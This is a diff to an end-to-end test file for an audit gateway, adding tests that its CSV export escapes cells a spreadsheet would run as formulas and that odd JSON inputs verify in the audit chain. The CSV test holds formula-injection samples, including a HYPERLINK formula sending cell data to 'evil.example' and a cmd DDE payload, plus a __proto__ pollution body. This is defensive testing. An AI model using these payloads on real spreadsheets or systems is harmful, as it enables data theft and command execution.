@@ -16,6 +16,7 @@ import { CHROMIUM, launchBrowser, signInWithKey } from '../support/browser.ts';
 import { runCli, writeGatewayConfig, type GatewayConfigFile } from '../support/audit-gateway.ts';
 import { getPage, postLogin, signIn } from '../support/console.ts';
 import { DEFAULT_PRINCIPALS, eventually, startTestGateway, type TestGateway, type TestPrincipal } from '../support/gateway.ts';
+import { startTestIssuer, type TestIssuer } from '../support/issuer.ts';
 import { startUpstream, type Upstream } from '../support/upstream.ts';
 
 const UPSTREAM_SECRET = 'Bearer upstream-credential-7f3a9c';
@@ -29,6 +30,7 @@ const TO = new Date(Date.now() + 2 * 86_400_000).toISOString().slice(0, 10);
 const SLOW = 60_000;
 
 let upstream: Upstream;
+let idp: TestIssuer;
 let cfg: GatewayConfigFile;
 let gw: TestGateway;
 
@@ -39,8 +41,15 @@ const pinnedKey = () => join(cfg.keyDir, 'keys', readdirSync(join(cfg.keyDir, 'k
 
 beforeAll(async () => {
   upstream = await startUpstream((call) => ({ status: 200, body: { echo: call.url } }));
+  // Workload tokens name their agent by a claim the workload's own side may choose (a job, a repository name).
+  idp = await startTestIssuer('/workloads');
   cfg = await writeGatewayConfig(
-    `connections:
+    `identity:
+  issuers:
+    - issuer: ${idp.issuer}
+      audience: countersign
+      principal: { kind: agent, id: sub }
+connections:
   - name: billing-api
     kind: http
     url: ${upstream.url}/api
@@ -73,6 +82,7 @@ policy:
 afterAll(async () => {
   await gw?.stop();
   await upstream?.close();
+  await idp?.close();
   await cfg?.remove();
 });
 
@@ -145,7 +155,7 @@ describe('what the auditor downloads', () => {
     writeFileSync(path, bytes);
 
     const verified = await cli('audit', 'verify', path, '--verifier-key', pinnedKey());
-    expect(verified.stdout).toMatch(/^bundle OK: events 1–\d+ \(\d+\) of countersign\.test\/e2e-exports; .* with the pinned key/);
+    expect(verified.stdout).toMatch(/^bundle OK: events 1–\d+ \(\d+\) of countersign\.test\/e2e-exports, written \S+ to \S+; .* with the pinned key/);
     expect(verified.code).toBe(0);
 
     const types = Buffer.from((await readBundle(path)).events).toString('utf8').trim().split('\n').map((l) => (JSON.parse(l) as { type: string }).type);
@@ -348,5 +358,40 @@ policy:
     } finally {
       await small.stop();
     }
+  }, SLOW);
+});
+
+describe('audit export --format csv', () => {
+  it('a cell a spreadsheet would run as a formula (=, +, -, @, tab, CR first) is written as text', async () => {
+    const ids = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|'/C.calc'!A0", '-2+3', '@SUM(A1:A9)'];
+    for (const sub of ids) {
+      const token = await idp.sign({ aud: 'countersign', sub });
+      const res = await fetch(`${gw.url}/v1/actions`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: JSON.stringify({ connection: 'billing-api', input: { method: 'GET', path: '/invoices' }, reason: 'read' }) });
+      expect(res.status, `${sub} ${await res.clone().text()}`).toBe(200);
+    }
+    const r = await cli('audit', 'export', '--config', cfg.configPath, '--format', 'csv');
+    expect(r.code).toBe(0);
+    const cells = r.stdout.split('\n').flatMap((line) => line.split(','));
+    for (const sub of ids) expect(r.stdout, sub).toContain(sub.includes('"') || sub.includes(',') ? `"'${sub.replace(/"/g, '""')}"` : `'${sub}`);
+    expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);
+  }, SLOW);
+});
+
+describe('canonical JSON of what an agent sends', () => {
+  it('numbers, lone surrogates, __proto__ and index-like keys are stored so that the chain verifies', async () => {
+    const body = String.raw`{"connection":"billing-api","reason":"r\ud800\u2028x","input":{"method":"POST","path":"/refunds","body":{"__proto__":{"admin":true},"10":1,"9":[-0,1e21,1e-7,5e-324,123456789012345678901234567890],"\udc00":"\ud800","e\u0301":1,"\u00e9":2}}}`;
+    const res = await fetch(`${gw.url}/v1/actions`, { method: 'POST', headers: { authorization: `Bearer ${cfg.keys['deploy-bot']}`, 'content-type': 'application/json' }, body });
+    expect(res.status).toBe(202);
+    const jsonl = (await cli('audit', 'export', '--config', cfg.configPath, '--format', 'jsonl')).stdout;
+    const submitted = jsonl.split('\n').find((l) => l.includes('"type":"request.submitted"') && l.includes('__proto__'));
+    expect(submitted).toContain(String.raw`"body":{"10":1,"9":[0,1e+21,1e-7,5e-324,1.2345678901234568e+29],"__proto__":{"admin":true},"e` + '\u0301' + String.raw`":1`);
+    expect(submitted).toContain(String.raw`"\udc00":"\ud800"`);
+    // The export signs the head, so the new events are under a checkpoint too.
+    const out = join(cfg.dir, 'canonical.tar');
+    expect((await cli('audit', 'export', '--config', cfg.configPath, '--out', out)).code).toBe(0);
+    expect((await cli('audit', 'verify', out, '--verifier-key', pinnedKey())).stdout).toMatch(/^bundle OK/);
+    const r = await cli('audit', 'verify', '--config', cfg.configPath);
+    expect(r.stdout).toMatch(/^audit chain OK/);
+    expect(r.code).toBe(0);
   }, SLOW);
 });
